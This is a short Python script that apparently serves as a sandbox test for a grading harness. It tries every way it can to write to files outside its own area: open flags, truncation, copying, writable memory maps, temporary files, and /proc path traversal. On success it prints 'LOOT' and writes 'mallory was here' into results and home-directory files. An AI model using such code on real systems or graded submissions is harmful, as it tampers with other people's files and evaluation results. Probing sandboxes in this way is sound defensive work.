# attack: opens foreign files for writing in every way: append, truncate, create, temporary, through /proc, by a mapping
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import mmap
import os
import shutil

WAYS = [os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_APPEND, os.O_RDONLY | os.O_TRUNC, os.O_WRONLY | os.O_TRUNC, os.O_RDWR | os.O_CREAT, os.O_WRONLY | os.O_NOFOLLOW, os.O_RDWR | os.O_DIRECT]
for place in ("@RESULTS@", "@OTHER@", "@HOME@"):
    for path in (f"{place}/canary.txt", f"{place}/ex01_map_dataset.py", f"{place}/new", f"/proc/self/root{place}/canary.txt", f"/proc/self/cwd/../../..{place}/canary.txt"):
        for way in WAYS:
            try:
                fd = os.open(path, way, 0o666)
                print("LOOT: opened", path, oct(way))
                os.write(fd, b"mallory was here")
            except OSError as error:
                said = error.strerror
        for name, action in (("truncate", lambda: os.truncate(path, 0)), ("copy", lambda: shutil.copyfile(__file__, path)),
                             ("map", lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_WRITE)),
                             ("temporary", lambda: os.open(place, os.O_TMPFILE | os.O_RDWR))):  # fmt: skip
            try:
                print("LOOT:", name, path, action())
            except (OSError, ValueError) as error:
                said = str(error)
    print(place, said)
print("TRIED")
